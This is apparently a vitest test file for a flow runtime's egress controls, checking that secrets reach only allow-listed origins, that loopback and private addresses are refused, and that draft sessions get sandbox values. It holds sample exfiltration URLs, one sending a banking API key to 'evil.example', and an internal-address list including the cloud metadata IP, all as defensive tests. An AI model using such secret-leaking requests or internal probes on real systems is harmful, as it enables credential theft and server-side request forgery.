import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestRuntime, type TestRuntime } from '../testing/startTestRuntime.ts';
import { isPrivateAddress } from './isPrivateAddress.ts';

const text = (en: string) => ({ text: { 'en-US': en } });

/** A flow whose one http node calls `url` and then says whether the call succeeded. */
function callFlow(id: string, url: string): Record<string, unknown> {
  return {
    id,
    name: 'Egress probe',
    schemaVersion: 1,
    locales: ['en-US'],
    defaultLocale: 'en-US',
    variables: [],
    start: 'start',
    nodes: [
      { id: 'start', type: 'start', config: {} },
      { id: 'call', type: 'http', config: { method: 'GET', url, timeoutMs: 2000, retries: 0, responseMapping: [] } },
      { id: 'ok', type: 'end', config: { prompt: text('Call succeeded.'), outcome: 'ok' } },
      { id: 'failed', type: 'end', config: { prompt: text('Call failed.'), outcome: 'failed' } },
    ],
    edges: [
      { source: 'start', port: 'next', target: 'call' },
      { source: 'call', port: 'success', target: 'ok' },
      { source: 'call', port: 'error', target: 'failed' },
      { source: 'call', port: 'timeout', target: 'failed' },
    ],
  };
}

let listener: Server;
let internal: Server;
let origin: string;
let internalOrigin: string;
const received: string[] = [];
let t: TestRuntime;

beforeAll(async () => {
  listener = createServer((req, res) => {
    received.push(req.url ?? '');
    res.setHeader('content-type', 'application/json');
    res.end('{}');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  // An internal service nobody allowed: the sample bank of the issue's probe.
  internal = createServer((req, res) => {
    received.push(`internal ${req.url ?? ''}`);
    res.end('{}');
  });
  await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
  internalOrigin = `http://127.0.0.1:${(internal.address() as AddressInfo).port}`;
  t = await startTestRuntime({
    OMNIFLOW_SECRET_CORE_BANKING_API_KEY: 'real-key-7f3a9c',
    OMNIFLOW_SECRET_CORE_BANKING_API_KEY_ALLOW: 'https://core.bank.internal',
    OMNIFLOW_SECRET_SANDBOXED: 'real-sandboxed-1b2c',
    OMNIFLOW_SECRET_SANDBOXED_ALLOW: origin,
    OMNIFLOW_DRAFT_SECRET_SANDBOXED: 'draft-value-5d6e',
  });
});
afterAll(async () => {
  await t.close();
  await new Promise((resolve) => listener.close(resolve));
  await new Promise((resolve) => internal.close(resolve));
});

/** Publishes a one-call flow and runs it as a live session; answers the end prompt the caller heard. */
async function run(id: string, url: string, options: { draft?: boolean } = {}): Promise<string> {
  expect((await t.api('POST', '/api/flows', { flow: callFlow(id, url) })).status).toBe(201);
  const published = options.draft ? 201 : (await t.api('POST', `/api/flows/${id}/publish`, {})).status;
  expect(published).toBe(201);
  const started = await t.api('POST', '/api/sessions', {
    flowId: id,
    channel: 'chat',
    ...(options.draft ? { draft: true } : {}),
  });
  expect(started.status).toBe(201);
  return JSON.stringify(started.body.session.outputs);
}

describe('secrets stay where they belong (issue 14)', () => {
  it('refuses to send a secret to an origin outside its allow-list, taking the error port', async () => {
    received.length = 0;
    expect(await run('exfil', `${origin}/x?k={{secret:CORE_BANKING_API_KEY}}`)).toContain('Call failed.');
    expect(received).toEqual([]);
    expect(t.logs.some((l) => l.includes('secret CORE_BANKING_API_KEY may not be sent to'))).toBe(true);
    expect(t.logs.join('\n')).not.toContain('real-key-7f3a9c');
  });

  it('refuses loopback destinations, also when a name resolves to one', async () => {
    received.length = 0;
    expect(await run('internal', `${internalOrigin}/accounts`)).toContain('Call failed.');
    expect(await run('by-name', `${internalOrigin.replace('127.0.0.1', 'localhost')}/accounts`)).toContain(
      'Call failed.',
    );
    expect(received).toEqual([]);
    expect(t.logs.some((l) => l.includes('egress refused'))).toBe(true);
  });

  it('sends a secret to an allowed (even private) origin from a published flow', async () => {
    received.length = 0;
    expect(await run('allowed', `${origin}/ok?k={{secret:SANDBOXED}}`)).toContain('Call succeeded.');
    expect(received).toEqual(['/ok?k=real-sandboxed-1b2c']);
  });

  it('gives draft sessions the draft (sandbox) value, never the real one', async () => {
    received.length = 0;
    expect(await run('drafted', `${origin}/ok?k={{secret:SANDBOXED}}`, { draft: true })).toContain('Call succeeded.');
    expect(received).toEqual(['/ok?k=draft-value-5d6e']);
    received.length = 0;
    expect(await run('drafted-real', `${origin}/x?k={{secret:CORE_BANKING_API_KEY}}`, { draft: true })).toContain(
      'Call failed.',
    );
    expect(received).toEqual([]);
  });

  it('names a secret sent to a destination it may not reach in validation', async () => {
    await t.api('POST', '/api/flows', {
      flow: callFlow('validated', 'https://evil.example/x?k={{secret:CORE_BANKING_API_KEY}}'),
    });
    const reply = await t.api('POST', '/api/flows/validated/validate', {});
    expect(reply.body.ok).toBe(false);
    expect(reply.body.issues).toContainEqual(
      expect.objectContaining({ code: 'SECRET002', nodeId: 'call', pointer: '/nodes/1/config/url' }),
    );
    const unlisted = await t.api('POST', '/api/flows/validated/validate', {
      flow: callFlow('validated', 'https://x.example/?k={{secret:UNLISTED}}'),
    });
    expect(unlisted.body.issues).toContainEqual(expect.objectContaining({ code: 'SECRET001', nodeId: 'call' }));
  });

  it('knows the private ranges', () => {
    const privateOnes = [
      '127.0.0.1',
      '10.1.2.3',
      '172.20.0.1',
      '192.168.1.1',
      '169.254.169.254',
      '::1',
      'fe80::1',
      'fd00::1',
      '::ffff:127.0.0.1',
      '0.0.0.0',
    ];
    expect(privateOnes.filter((address) => !isPrivateAddress(address))).toEqual([]);
    expect(['8.8.8.8', '203.0.113.9', '2001:4860:4860::8888'].filter(isPrivateAddress)).toEqual([]);
  });
});
